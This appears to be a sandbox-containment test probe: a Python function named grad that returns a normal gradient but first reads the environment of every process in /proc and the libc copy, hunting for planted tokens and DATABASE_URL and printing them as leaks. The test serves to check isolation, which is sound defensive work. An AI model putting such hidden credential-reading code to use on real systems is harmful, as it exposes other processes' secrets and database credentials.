# b03_environment_of_all  (threat row T2; acts at call)
# TRIES: read the settings (DATABASE_URL) of every process that /proc shows, and of the C library's own copy
# CONTAINED IF: no planted token appears
import ctypes, os, re

TOKEN = re.compile(rb"gsb-token-[0-9a-f]{16}")


def grad(X, y, w):
    try:
        pids = [name for name in os.listdir("/proc") if name.isdecimal()]
    except OSError:
        pids = ["self", str(os.getppid()), "@@GRADER@@"]
    for pid in pids:
        try:
            for token in TOKEN.findall(open(f"/proc/{pid}/environ", "rb").read()):
                print("LEAK", pid, token.decode())
        except OSError:
            pass
    libc = ctypes.CDLL(None)
    libc.getenv.restype = ctypes.c_char_p
    print("LEAK", libc.getenv(b"DATABASE_URL"), os.environ.get("DATABASE_URL"))
    return 2 * X.T @ (X @ w - y) / len(y)
